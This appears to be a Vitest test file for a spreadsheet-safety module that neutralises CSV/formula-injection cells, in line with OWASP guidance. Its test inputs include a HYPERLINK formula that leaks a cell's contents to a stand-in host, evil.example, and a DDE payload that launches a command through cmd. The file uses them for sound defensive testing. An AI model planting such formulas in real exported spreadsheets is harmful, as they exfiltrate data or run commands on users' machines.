import { describe, expect, it } from "vitest";
import { isDangerousCell, neutralizeCell, neutralizeValue } from "@/lib/spreadsheet-safety";

describe("neutralizeCell (OWASP CSV injection)", () => {
  it.each([
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\tplain text after a tab",
    "\rcarriage return first",
    "\nline feed first",
    "\u0000nul first",
    "-",
    "+",
    "=",
    "@",
  ])("prefixes %j with a single quote", (value) => {
    expect(neutralizeCell(value)).toBe(`'${value}`);
    expect(isDangerousCell(value)).toBe(true);
  });

  it.each(["＝1+1", "＋86 138 0000 0000", "－5－3", "＠SUM(A1)"])("prefixes the fullwidth form %j", (value) => {
    expect(neutralizeCell(value)).toBe(`'${value}`);
  });

  it.each([" =1+1", "   @SUM(A1)", "\u00a0=1+1", "\u3000＝1+1", "\ufeff=1+1", " \t-2+3"])(
    "prefixes %j, where a trigger follows leading whitespace",
    (value) => {
      expect(neutralizeCell(value)).toBe(`'${value}`);
    },
  );

  it.each(["-5", "+5", "-0.5", "3.25", "-.5", "1e3", "-2E-4", "42", "0"])("leaves the plain number %j alone", (value) => {
    expect(neutralizeCell(value)).toBe(value);
    expect(isDangerousCell(value)).toBe(false);
  });

  it.each([
    "",
    "服务很好，办理很快",
    "Great service",
    "a=b",
    "email@example.com",
    "2026-03-01 14:05",
    "'=already neutralised",
    "#REF!",
    "−5 (U+2212 minus sign, not a formula trigger)",
    "5-3",
  ])("leaves the harmless text %j alone", (value) => {
    expect(neutralizeCell(value)).toBe(value);
  });

  it.each(["-5 days", "+86 138 0000 0000", "-1+1", "+1e3*2"])("prefixes %j, which only starts like a number", (value) => {
    expect(neutralizeCell(value)).toBe(`'${value}`);
  });

  it("is idempotent", () => {
    for (const value of ["=1+1", "＝1", " -x", "\tx", "ok", "-5"]) {
      expect(neutralizeCell(neutralizeCell(value))).toBe(neutralizeCell(value));
    }
  });

  it("keeps the rest of the text intact (Chinese included)", () => {
    expect(neutralizeCell("=HYPERLINK(\"http://x\",\"点击领取\")")).toBe("'=HYPERLINK(\"http://x\",\"点击领取\")");
  });
});

describe("neutralizeValue", () => {
  it("keeps numbers numbers, negative ones included", () => {
    expect(neutralizeValue(-5)).toBe(-5);
    expect(neutralizeValue(0)).toBe(0);
    expect(neutralizeValue(9.5)).toBe(9.5);
  });

  it("empties non-finite numbers and null", () => {
    expect(neutralizeValue(Number.NaN)).toBeNull();
    expect(neutralizeValue(Number.POSITIVE_INFINITY)).toBeNull();
    expect(neutralizeValue(null)).toBeNull();
  });

  it("neutralises text", () => {
    expect(neutralizeValue("@x")).toBe("'@x");
    expect(neutralizeValue("-5")).toBe("-5");
  });
});
